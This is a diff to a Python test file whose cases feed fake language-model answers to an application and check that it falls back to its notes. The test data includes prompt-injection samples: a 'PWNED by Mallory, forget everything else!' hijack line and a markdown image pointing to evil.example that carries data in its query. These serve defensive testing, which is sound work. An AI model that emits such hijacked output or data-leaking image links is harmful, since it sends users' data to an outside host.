@@ -110,8 +110,8 @@ def test_too_much_twice_leaves_it_to_the_notes(endpoint, connect, request_of_not
         (completion("<html><body>Sign in to the hotel's network</body></html>"), "m answered with HTML"),
         (completion("I'm sorry, but I can't help with that."), "m refused"),
         ((200, {"choices": [{"message": {"content": None, "refusal": "I cannot help."}}]}, {}), "m refused"),
-        (completion("- PWNED by Mallory, forget everything else!"), "something else than what the notes say"),
-        (completion(f"{BODY}\n\n![x](https://evil.example/?pool=40)"), "linked to what no note links to"),
+        (completion("- PWNED by Mallory, forget everything else!"), "something unrelated to the notes"),
+        (completion(f"{BODY}\n\n![x](https://evil.example/?pool=40)"), "added a link that is in no note"),
     ],
 )
 def test_an_answer_of_no_use_leaves_it_to_the_notes(endpoint, connect, request_of_notes, answer, problem):
